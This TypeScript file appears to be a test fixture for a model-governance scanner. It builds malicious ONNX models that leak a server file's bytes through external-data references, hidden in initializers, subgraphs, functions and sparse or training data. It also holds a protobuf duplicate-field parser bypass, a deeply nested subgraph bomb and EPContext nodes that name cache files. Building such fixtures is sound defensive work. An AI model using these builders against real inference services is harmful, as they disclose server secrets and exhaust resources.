import { onnx } from 'onnx-proto';

// Models that try to read a file of the server through ONNX external data: a tensor whose
// `external_data` names a `location` that onnxruntime would open, relative to its working
// directory. Each takes `features` float32 [batch, 4]; the ones meant to run also output
// `leaked`: the named file's bytes, cast to float32.

const FLOAT = onnx.TensorProto.DataType.FLOAT;
const UINT8 = onnx.TensorProto.DataType.UINT8;
const BOOL = onnx.TensorProto.DataType.BOOL;
const INT64 = onnx.TensorProto.DataType.INT64;
const EXTERNAL = onnx.TensorProto.DataLocation.EXTERNAL;
const { TENSOR, GRAPH, INT, STRING } = onnx.AttributeProto.AttributeType;

/** A uint8 tensor of `length` bytes whose data is the file at `location`, from `offset`. */
export function externalTensor(name: string, location: string, length: number, offset = 0): onnx.ITensorProto {
  return {
    name,
    dims: [length],
    dataType: UINT8,
    dataLocation: EXTERNAL,
    externalData: [
      { key: 'location', value: location },
      { key: 'offset', value: String(offset) },
      { key: 'length', value: String(length) },
    ],
  };
}

const embedded = (name: string, length: number): onnx.ITensorProto => ({ name, dims: [length], dataType: UINT8, rawData: Buffer.alloc(length) });

const floats = (name: string, shape: Array<number | string>): onnx.IValueInfoProto => ({
  name,
  type: { tensorType: { elemType: FLOAT, shape: { dim: shape.map((d) => (typeof d === 'number' ? { dimValue: d } : { dimParam: d })) } } },
});

const uint8s = (name: string, length: number): onnx.IValueInfoProto => ({
  name,
  type: { tensorType: { elemType: UINT8, shape: { dim: [{ dimValue: length }] } } },
});

function encode(graph: onnx.IGraphProto, extra: Partial<onnx.IModelProto> = {}): Buffer {
  return Buffer.from(
    onnx.ModelProto.encode({ irVersion: 8, opsetImport: [{ domain: '', version: 17 }], producerName: 'modelgov-tests', graph, ...extra }).finish(),
  );
}

/** `leaked` = Cast<float>(`source`), `echo` = Identity(features): the graph around every hiding place. */
function leakingGraph(source: string, length: number, extra: Partial<onnx.IGraphProto> = {}, before: onnx.INodeProto[] = []): onnx.IGraphProto {
  return {
    name: 'leak',
    node: [
      ...before,
      { opType: 'Cast', input: [source], output: ['leaked'], attribute: [{ name: 'to', type: INT, i: FLOAT }] },
      { opType: 'Identity', input: ['features'], output: ['echo'] },
    ],
    input: [floats('features', ['batch', 4])],
    output: [floats('leaked', [length]), floats('echo', ['batch', 4])],
    ...extra,
  };
}

/** The plain attack: a graph initializer read from `location`. Runs, and outputs the file's bytes. */
export function initializerLeak(location: string, length: number, offset = 0): Buffer {
  return encode(leakingGraph('secret', length, { initializer: [externalTensor('secret', location, length, offset)] }));
}

const constant = (output: string, t: onnx.ITensorProto): onnx.INodeProto => ({ opType: 'Constant', output: [output], attribute: [{ name: 'value', type: TENSOR, t }] });

/** The reference in a Constant node's `value` attribute. */
export function constantNodeLeak(location: string, length: number): Buffer {
  return encode(leakingGraph('secret', length, {}, [constant('secret', externalTensor('value', location, length))]));
}

/** The reference as an initializer of an If node's `then_branch`. */
export function ifBranchLeak(location: string, length: number): Buffer {
  const branch = (t: onnx.ITensorProto): onnx.IGraphProto => ({
    name: 'branch',
    node: [{ opType: 'Identity', input: [t.name!], output: [`${t.name}_out`] }],
    initializer: [t],
    output: [uint8s(`${t.name}_out`, length)],
  });
  const cond = constant('cond', { name: 'cond', dims: [], dataType: BOOL, rawData: Buffer.from([1]) });
  const ifNode: onnx.INodeProto = {
    opType: 'If',
    input: ['cond'],
    output: ['secret'],
    attribute: [
      { name: 'then_branch', type: GRAPH, g: branch(externalTensor('then', location, length)) },
      { name: 'else_branch', type: GRAPH, g: branch(embedded('else', length)) },
    ],
  };
  return encode(leakingGraph('secret', length, {}, [cond, ifNode]));
}

/** The reference in a Constant node of a Loop body: one iteration, its scan output the file. */
export function loopBodyLeak(location: string, length: number): Buffer {
  const body: onnx.IGraphProto = {
    name: 'body',
    node: [constant('chunk', externalTensor('chunk', location, length)), { opType: 'Identity', input: ['cond_in'], output: ['cond_out'] }],
    input: [
      { name: 'i', type: { tensorType: { elemType: INT64, shape: { dim: [] } } } },
      { name: 'cond_in', type: { tensorType: { elemType: BOOL, shape: { dim: [] } } } },
    ],
    output: [{ name: 'cond_out', type: { tensorType: { elemType: BOOL, shape: { dim: [] } } } }, uint8s('chunk', length)],
  };
  const trips = constant('trips', { name: 'trips', dims: [], dataType: INT64, rawData: Buffer.from([1, 0, 0, 0, 0, 0, 0, 0]) });
  const loop: onnx.INodeProto = { opType: 'Loop', input: ['trips', ''], output: ['chunks'], attribute: [{ name: 'body', type: GRAPH, g: body }] };
  const flatten: onnx.INodeProto = { opType: 'Flatten', input: ['chunks'], output: ['secret'], attribute: [{ name: 'axis', type: INT, i: 0 }] };
  return encode(leakingGraph('secret', length, {}, [trips, loop, flatten]));
}

/** The reference inside a model-local function, called from the main graph. */
export function functionLeak(location: string, length: number): Buffer {
  const fn: onnx.IFunctionProto = {
    name: 'Reveal',
    domain: 'modelgov.tests',
    output: ['out'],
    node: [constant('out', externalTensor('value', location, length))],
    opsetImport: [{ domain: '', version: 17 }],
  };
  return encode(leakingGraph('secret', length, {}, [{ opType: 'Reveal', domain: 'modelgov.tests', output: ['secret'] }]), {
    opsetImport: [
      { domain: '', version: 17 },
      { domain: 'modelgov.tests', version: 1 },
    ],
    functions: [fn],
  });
}

/** The reference as the values of a sparse initializer. */
export function sparseInitializerLeak(location: string, length: number): Buffer {
  const indices: onnx.ITensorProto = { name: 'idx', dims: [length], dataType: INT64, rawData: Buffer.alloc(8 * length) };
  const sparse: onnx.ISparseTensorProto = { values: externalTensor('secret', location, length), indices, dims: [length] };
  return encode(leakingGraph('secret', length, { sparseInitializer: [sparse] }));
}

/** The reference in a training-info initialization graph. */
export function trainingInfoLeak(location: string, length: number): Buffer {
  const init: onnx.IGraphProto = { name: 'init', initializer: [externalTensor('state', location, length)] };
  return encode(leakingGraph('zeros', length, { initializer: [embedded('zeros', length)] }), { trainingInfo: [{ initialization: init }] });
}

/** A tensor marked EXTERNAL without any `external_data` entry, or with entries but no EXTERNAL mark. */
export function halfMarkedLeak(mark: 'location-only' | 'entries-only', location: string, length: number): Buffer {
  const t = externalTensor('secret', location, length);
  if (mark === 'location-only') delete t.externalData;
  else delete t.dataLocation;
  return encode(leakingGraph('secret', length, { initializer: [t] }));
}

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n > 0x7f) {
    out.push((n & 0x7f) | 0x80);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}

/** A length-delimited protobuf field. */
const field = (no: number, bytes: Uint8Array) => Buffer.concat([varint((no << 3) | 2), varint(bytes.length), bytes]);

/**
 * A Constant whose `value` attribute carries its tensor twice on the wire: first the external
 * one, then an embedded one. protobuf's C++ parser (onnxruntime's) merges the two (the EXTERNAL
 * mark and the location survive); a JavaScript decoder keeps only the second.
 */
export function duplicateFieldLeak(location: string, length: number): Buffer {
  const attribute = Buffer.concat([
    onnx.AttributeProto.encode({ name: 'value', type: TENSOR, t: externalTensor('value', location, length) }).finish(),
    onnx.AttributeProto.encode({ t: embedded('value', length) }).finish(),
  ]);
  const node = Buffer.concat([onnx.NodeProto.encode({ opType: 'Constant', output: ['secret'] }).finish(), field(5, attribute)]);
  const graph = leakingGraph('secret', length);
  const graphBytes = Buffer.concat([field(1, node), onnx.GraphProto.encode(graph).finish()]);
  const head = onnx.ModelProto.encode({ irVersion: 8, opsetImport: [{ domain: '', version: 17 }], producerName: 'modelgov-tests' }).finish();
  return Buffer.concat([head, field(7, graphBytes)]);
}

/**
 * A valid small model whose main graph also holds one node with an If whose branch holds a node
 * with an If…, `depth` levels down. Written straight into one buffer (sizes computed inside out),
 * so that even a million levels cost only a few megabytes and no deep recursion to build.
 */
export function nestedSubgraphBomb(depth: number): Buffer {
  const inner = onnx.GraphProto.encode({ name: 'leaf' }).finish();
  const varintLength = (n: number) => (n < 0x80 ? 1 : n < 0x4000 ? 2 : n < 0x200000 ? 3 : n < 0x10000000 ? 4 : 5);
  // Per level, inside out: the sizes of the attribute, the node and the graph messages.
  const attrs = new Float64Array(depth);
  const nodes = new Float64Array(depth);
  const graphs = new Float64Array(depth);
  let graphSize = inner.length;
  for (let i = 0; i < depth; i++) {
    attrs[i] = 1 + varintLength(graphSize) + graphSize;
    nodes[i] = 1 + varintLength(attrs[i]) + attrs[i];
    graphs[i] = 1 + varintLength(nodes[i]) + nodes[i];
    graphSize = graphs[i];
  }
  const body = Buffer.alloc(graphSize);
  let at = 0;
  const put = (tagByte: number, length: number) => {
    body[at++] = tagByte;
    while (length > 0x7f) {
      body[at++] = (length & 0x7f) | 0x80;
      length = Math.floor(length / 128);
    }
    body[at++] = length;
  };
  for (let i = depth - 1; i >= 0; i--) {
    put(0x0a, nodes[i]); // GraphProto.node (1)
    put(0x2a, attrs[i]); // NodeProto.attribute (5)
    put(0x32, i === 0 ? inner.length : graphs[i - 1]); // AttributeProto.g (6)
  }
  Buffer.from(inner).copy(body, at);
  const valid = onnx.ModelProto.decode(initializerLeak('unused', 1));
  valid.graph!.initializer = [embedded('secret', 1)];
  const model = Buffer.from(onnx.ModelProto.encode(valid).finish());
  // A second `graph` field: protobuf merges it into the first, so its nodes join the main graph.
  return Buffer.concat([model, Buffer.from([0x3a]), varint(body.length), body]);
}

/**
 * An `EPContext` node (com.microsoft) whose `ep_cache_context` names `location` with
 * `embed_mode=0`: an execution provider such as TensorRT opens that file to load its engine.
 * `where` places the node in the main graph, in an If branch, or in a model-local function.
 */
export function epContextModel(location: string, where: 'graph' | 'subgraph' | 'function'): Buffer {
  const epContext = (output: string): onnx.INodeProto => ({
    opType: 'EPContext',
    domain: 'com.microsoft',
    input: ['features'],
    output: [output],
    attribute: [
      { name: 'embed_mode', type: INT, i: 0 },
      { name: 'ep_cache_context', type: STRING, s: Buffer.from(location) },
      { name: 'source', type: STRING, s: Buffer.from('TensorrtExecutionProvider') },
      { name: 'main_context', type: INT, i: 1 },
    ],
  });
  const opsetImport = [
    { domain: '', version: 17 },
    { domain: 'com.microsoft', version: 1 },
  ];
  const graph = (node: onnx.INodeProto[]): onnx.IGraphProto => ({
    name: 'ep-context',
    node,
    input: [floats('features', ['batch', 4])],
    output: [floats('probability', ['batch', 1])],
  });
  if (where === 'graph') return encode(graph([epContext('probability')]), { opsetImport });
  if (where === 'subgraph') {
    const branch = (name: string, node: onnx.INodeProto): onnx.IGraphProto => ({ name, node: [node], output: [floats(`${name}_out`, ['batch', 1])] });
    const cond = constant('cond', { name: 'cond', dims: [], dataType: BOOL, rawData: Buffer.from([1]) });
    const ifNode: onnx.INodeProto = {
      opType: 'If',
      input: ['cond'],
      output: ['probability'],
      attribute: [
        { name: 'then_branch', type: GRAPH, g: branch('then', epContext('then_out')) },
        { name: 'else_branch', type: GRAPH, g: branch('else', { opType: 'ReduceMean', input: ['features'], output: ['else_out'], attribute: [{ name: 'axes', type: onnx.AttributeProto.AttributeType.INTS, ints: [1] }] }) },
      ],
    };
    return encode(graph([cond, ifNode]), { opsetImport });
  }
  const fn: onnx.IFunctionProto = { name: 'Compiled', domain: 'modelgov.tests', input: ['x'], output: ['y'], node: [{ ...epContext('y'), input: ['x'] }], opsetImport };
  return encode(graph([{ opType: 'Compiled', domain: 'modelgov.tests', input: ['features'], output: ['probability'] }]), {
    opsetImport: [...opsetImport, { domain: 'modelgov.tests', version: 1 }],
    functions: [fn],
  });
}
